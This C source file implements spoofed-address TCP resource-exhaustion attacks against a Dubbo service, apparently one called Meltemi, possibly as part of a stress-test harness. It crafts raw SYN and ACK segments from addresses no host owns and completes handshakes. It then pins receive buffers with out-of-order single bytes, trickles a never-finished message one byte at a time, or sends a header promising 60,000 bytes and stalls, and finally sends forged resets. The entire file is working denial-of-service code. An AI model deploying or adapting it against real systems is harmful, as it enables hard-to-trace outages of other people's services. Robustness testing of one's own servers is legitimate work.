/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Connections made without a kernel, from addresses that no kernel owns, and then misused: one byte at every other
 * place of the window, a message in segments of one byte, a header and then silence. The peer's segments are
 * read only to complete handshakes, and to see who was reset.
 */
#include "flood.h"

#include <stdio.h>
#include <string.h>

#define CONNS_MAX 8192
#define PORT_LO	  20000

/* A Dubbo request that says it will be 60,000 bytes long. */
static const uint8_t head[16] = {0xda, 0xbb, 0xc2, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0xea, 0x60};
/* Its body begins well: the version, and the service's name, a string of 32,767 characters. */
static const uint8_t name[] = {5, '2', '.', '0', '.', '2', 'S', 0x7f, 0xff};

static const uint8_t *message_at(uint32_t place)
{
	static const uint8_t letter = 'a';

	if (place < sizeof(head))
		return &head[place];
	place -= (uint32_t)sizeof(head);
	return place < sizeof(name) ? &name[place] : &letter;
}

static struct held {
	uint32_t iss, irs, next;
	bool up, reset;
} conns[CONNS_MAX];
static uint32_t n_up, n_reset;

static struct seg of(const struct flood *f, uint32_t i, uint8_t flags)
{
	return (struct seg){
		.src = f->net | (1 + i % 200),
		.dst = f->to,
		.sport = (uint16_t)(PORT_LO + i),
		.dport = f->port,
		.seq = conns[i].next,
		.ack = conns[i].irs + 1,
		.flags = flags,
		.wnd = 65535,
	};
}

static void listen_in(struct flood *f)
{
	struct seen s;

	while (next_seen(f, &s)) {
		uint32_t i = (uint32_t)s.dport - PORT_LO;

		if (s.ours || s.src != f->to || s.sport != f->port || i >= f->conns ||
			s.dst != (f->net | (1 + i % 200)))
			continue;
		if (s.flags & RST) {
			n_reset += !conns[i].reset;
			conns[i].reset = true;
		} else if (s.flags & SYN && !conns[i].up && s.ack == conns[i].iss + 1) {
			struct seg ack;

			conns[i].irs = s.seq;
			conns[i].next = conns[i].iss + 1;
			conns[i].up = true;
			n_up++;
			ack = of(f, i, ACK);
			send_seg(f, &ack);
		}
	}
}

/* SYNs at the pace, again for those that were not answered; until all are up, or `until`. */
static void connect_all(struct flood *f, uint64_t until)
{
	uint64_t start = now_ns(), n = 0;

	while (n_up < f->conns && now_ns() < until) {
		for (uint32_t i = 0; i < f->conns && pace(f, start, n); i++, n++) {
			struct seg s;

			listen_in(f);
			if (conns[i].up)
				continue;
			if (!conns[i].iss)
				conns[i].iss = conns[i].next = 1 | (uint32_t)mt_rand_u64(&f->rand);
			s = of(f, i, SYN);
			s.ack = 0;
			s.opt_len = 4;
			memcpy(s.opts, (const uint8_t[]){2, 4, 5, 0xb4}, 4);
			send_seg(f, &s);
		}
		for (int wait = 0; wait < 200 && n_up < f->conns; wait++) {
			pace(f, now_ns() + 2000000, 1);
			listen_in(f);
		}
	}
}

static void begin(struct flood *f)
{
	uint64_t now = now_ns();

	connect_all(f, now + (f->end - now) / 2);
	printf("{\"up\": %u}\n", n_up);
	fflush(stdout);
}

/* Ends each connection that is left by an exact reset, three times: a busy machine loses frames. */
static void finish(struct flood *f)
{
	uint64_t start = now_ns();
	char more[96];

	listen_in(f);
	for (uint32_t i = 0; i < 3 * f->conns; i++) {
		struct seg s = of(f, i % f->conns, RST);

		if (conns[i % f->conns].up && !conns[i % f->conns].reset)
			send_seg(f, &s);
		while (now_ns() < start + i * 50000ull)
			; /* 20,000 a second, past the end of the attack */
	}
	snprintf(more, sizeof(more), ", \"up\": %u, \"reset\": %u", n_up, n_reset);
	report(f, more);
}

static void send_at(struct flood *f, uint32_t i, uint32_t seq, const uint8_t *data, uint16_t len)
{
	struct seg s = of(f, i, ACK | PSH);

	s.seq = seq;
	s.data = data;
	s.len = len;
	send_seg(f, &s);
}

/* One byte at every other place of the window, never the first: each pins a whole buffer. */
void run_ooo(struct flood *f)
{
	uint64_t start, n = 0;

	begin(f);
	start = now_ns();
	for (uint32_t round = 0; now_ns() < f->end; round++)
		for (uint32_t i = 0; i < f->conns && pace(f, start, n); i++, n++) {
			if (n % 64 == 0)
				listen_in(f);
			if (conns[i].up && !conns[i].reset)
				send_at(f, i, conns[i].next + 1 + 2 * (round % 20000), head, 1);
		}
	finish(f);
}

/* In order, a byte at a time, of a message that is never complete. */
void run_tiny(struct flood *f)
{
	uint64_t start, n = 0;

	begin(f);
	start = now_ns();
	for (uint32_t round = 0; now_ns() < f->end; round++)
		for (uint32_t i = 0; i < f->conns && pace(f, start, n); i++, n++) {
			if (n % 64 == 0)
				listen_in(f);
			if (!conns[i].up || conns[i].reset)
				continue;
			send_at(f, i, conns[i].next, message_at(round), 1);
			conns[i].next++;
		}
	finish(f);
}

/* The header of a message, twice because one may be lost, and then nothing: what ends it is Meltemi's patience. */
void run_stop16(struct flood *f)
{
	uint64_t start, n = 0;

	begin(f);
	start = now_ns();
	for (int twice = 0; twice < 2; twice++)
		for (uint32_t i = 0; i < f->conns && pace(f, start, n); i++, n++)
			if (conns[i].up)
				send_at(f, i, conns[i].iss + 1, head, sizeof(head));
	while (now_ns() < f->end && n_reset < n_up) {
		pace(f, now_ns() + 2000000, 1);
		listen_in(f);
	}
	for (uint32_t i = 0; i < f->conns; i++)
		conns[i].next += sizeof(head);
	finish(f);
}
